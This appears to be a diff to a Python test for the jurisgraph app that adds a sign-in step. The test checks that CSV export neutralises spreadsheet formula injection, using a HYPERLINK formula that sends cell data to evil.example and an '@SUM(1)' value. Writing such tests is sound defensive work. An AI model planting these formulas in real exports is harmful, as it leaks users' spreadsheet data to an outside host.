@@ -13,6 +13,7 @@ from jurisgraph import migrations
 from jurisgraph.app import create_app
 from jurisgraph.cli.main import app as cli
 from jurisgraph.config import load_settings
+from tests.fixtures.accounts import sign_in
 
 FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"abrir")'
 
@@ -21,6 +22,7 @@ def test_a_formula_question_is_exported_as_text(tmp_path: Path) -> None:
     settings = load_settings()
     migrations.upgrade(settings.database_url)
     with TestClient(create_app(settings)) as client:
+        sign_in(client)
         assert client.post("/api/v1/ask", json={"question": FORMULA, "relator": "@SUM(1)"}).status_code == 200
         exported = client.get("/api/v1/queries/export", params={"format": "csv"}).text
     (row,) = list(csv.DictReader(io.StringIO(exported)))
